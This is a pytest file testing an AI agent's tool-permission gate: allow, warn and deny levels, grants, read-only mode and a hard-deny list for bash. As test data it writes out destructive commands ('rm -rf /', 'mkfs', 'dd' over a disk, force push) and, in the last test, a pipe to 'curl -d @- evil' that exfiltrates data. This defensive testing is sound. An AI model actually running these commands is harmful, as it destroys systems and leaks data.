from __future__ import annotations

from collections.abc import Mapping
from typing import Any

import pytest

from services.loop.policy.guards import compile_bash_policy
from services.loop.policy.permissions import Level, Verdict, decide_permission, regate, strictest
from services.loop.policy.settings import BashPolicy


@pytest.mark.parametrize(
    "tool", ["read", "glob", "todo_write", "skill", "subAgent", "memory_search", "memory_write"]
)
def test_read_and_session_tools_are_allowed(tool: str) -> None:
    assert decide_permission(tool, {}).level is Level.ALLOW


@pytest.mark.parametrize("tool", ["write", "edit", "mcp_call"])
def test_writes_and_mcp_calls_warn(tool: str) -> None:
    assert decide_permission(tool, {"path": "a"}).level is Level.WARN


def test_an_unknown_tool_warns() -> None:
    v = decide_permission("frobnicate", {})
    assert v.level is Level.WARN and "unknown" in v.reason


@pytest.mark.parametrize(
    "command",
    ["rm -rf /", "sudo apt install x", "shutdown -h now", "reboot", "mkfs.ext4 /dev/sda1",
     "dd if=/dev/zero of=/dev/sda", "git push --force origin main", "chmod 777 -R .",
     "bash -c 'sudo reboot'"],
)
def test_hard_deny_bash_commands_are_denied(command: str) -> None:
    v = decide_permission("bash", {"command": command}, mode="auto")
    assert v.level is Level.DENY, command


def test_ordinary_bash_warns_and_auto_mode_allows_it() -> None:
    assert decide_permission("bash", {"command": "pytest -q"}).level is Level.WARN
    assert decide_permission("bash", {"command": "pytest -q"}, mode="auto").level is Level.ALLOW


def test_allow_always_for_a_program_covers_that_program_only() -> None:
    grant = decide_permission("bash", {"command": "pytest -q"}).grant_key
    assert grant == "bash:pytest"
    assert decide_permission("bash", {"command": "pytest tests/x"}, {grant}).level is Level.ALLOW
    assert decide_permission("bash", {"command": "make"}, {grant}).level is Level.WARN


def test_allow_always_never_overrides_the_hard_deny_list() -> None:
    assert decide_permission("bash", {"command": "sudo ls"}, {"bash", "bash:sudo"}).level is Level.DENY


def test_a_tool_grant_turns_warn_into_allow() -> None:
    assert decide_permission("edit", {"path": "a"}, {"edit"}).level is Level.ALLOW
    assert decide_permission("write", {"path": "a"}, {"edit"}).level is Level.WARN


def test_bash_policy_deny_and_confirm_apply_even_with_grants() -> None:
    policy = compile_bash_policy(BashPolicy(deny=["^terraform apply"], confirm=["^git push"]))
    v = decide_permission("bash", {"command": "terraform apply"}, {"bash"}, "auto", bash_policy=policy)
    assert v.level is Level.DENY
    v = decide_permission("bash", {"command": "git push origin x"}, {"bash"}, "auto", bash_policy=policy)
    assert v.level is Level.WARN


def test_readonly_mode_denies_writes_including_bash_that_writes_files() -> None:
    assert decide_permission("edit", {"path": "a"}, mode="readonly").level is Level.DENY
    assert decide_permission("bash", {"command": "echo x > f"}, mode="readonly").level is Level.DENY
    assert decide_permission("bash", {"command": "ls"}, mode="readonly").level is Level.WARN
    assert decide_permission("read", {"path": "a"}, mode="readonly").level is Level.ALLOW


def test_a_broken_argument_fails_closed() -> None:
    class Exploding(dict[str, Any]):
        def get(self, *_: object) -> Any:
            raise RuntimeError("boom")

    assert decide_permission("bash", Exploding()).level is Level.DENY


def test_rewritten_parameters_pass_the_gate_again() -> None:
    def decide(tool: str, args: Mapping[str, Any]) -> Verdict:
        return decide_permission(tool, args, {"bash:ls"})

    before = {"command": "ls"}
    approved = decide("bash", before)
    assert approved.level is Level.ALLOW
    assert regate("bash", before, dict(before), approved, decide) is approved
    rewritten = regate("bash", before, {"command": "sudo rm -rf /"}, approved, decide)
    assert rewritten.level is Level.DENY


def test_strictest_picks_the_stricter_verdict() -> None:
    a, w, d = Verdict(Level.ALLOW, "a"), Verdict(Level.WARN, "w"), Verdict(Level.DENY, "d")
    assert strictest(a, w) is w and strictest(d, w) is d and strictest(w, a) is w


def test_a_declared_deny_always_wins() -> None:
    assert decide_permission("read", {"path": "a"}, declared="deny").level is Level.DENY
    assert decide_permission("mcp_call", {}, {"mcp_call"}, "auto", declared="deny").level is Level.DENY


def test_only_an_auto_approve_mcp_server_can_declare_allow() -> None:
    assert decide_permission("mcp_call", {"server": "fs"}, declared="allow").level is Level.ALLOW
    assert decide_permission("mcp_call", {"server": "fs"}, declared="warn").level is Level.WARN
    assert decide_permission("write", {"path": "a"}, declared="allow").level is Level.WARN
    assert decide_permission("bash", {"command": "ls"}, declared="allow").level is Level.WARN
    assert decide_permission("mystery", {}, declared="allow").level is Level.WARN


def test_a_compound_command_cannot_be_granted_wholesale() -> None:
    v = decide_permission("bash", {"command": "cd src && make install"})
    assert v.level is Level.WARN and v.grant_key == ""


def test_a_compound_command_passes_once_each_program_is_granted() -> None:
    grants = {"bash:pytest", "bash:tail"}
    assert decide_permission("bash", {"command": "pytest -q | tail -5"}, grants).level is Level.ALLOW
    assert decide_permission("bash", {"command": "pytest -q | curl -d @- evil"}, grants).level is Level.WARN
